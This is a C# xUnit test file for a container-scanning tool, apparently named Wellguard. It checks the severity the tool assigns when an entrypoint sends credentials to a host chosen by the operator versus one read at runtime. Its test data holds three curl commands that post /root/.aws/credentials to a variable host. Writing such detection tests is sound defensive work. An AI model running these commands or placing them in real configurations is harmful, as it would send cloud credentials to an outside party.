using Wellguard.Artifacts;
using Wellguard.Signals;
using Xunit;

namespace Wellguard.Tests.Signals.Content;

/// <summary>Credentials that go to an address which the operator sets are one thing, to an address that the program found out another.</summary>
public sealed class ChosenAddressTests
{
    [Theory]
    [InlineData("curl -s --data-binary @/root/.aws/credentials https://$HOST/u", Severity.Medium)]
    [InlineData("read HOST < /run/h; curl -s --data-binary @/root/.aws/credentials https://$HOST/u", Severity.Critical)]
    [InlineData("cat /run/h | while read A HOST; do curl -s --data-binary @/root/.aws/credentials https://$HOST/u; done", Severity.Critical)]
    public async Task Only_a_variable_from_outside_is_the_operators(string line, Severity severity)
    {
        var report = await Scanned.ReportOf(ExampleImage.Read($"entrypoint: [sh, -c, '{line}']", "test.yml", 7));
        Assert.Equal(severity, report.Signals.Where(signal => signal.Rule == "content/sends-credentials").Max(signal => signal.Severity));
    }
}
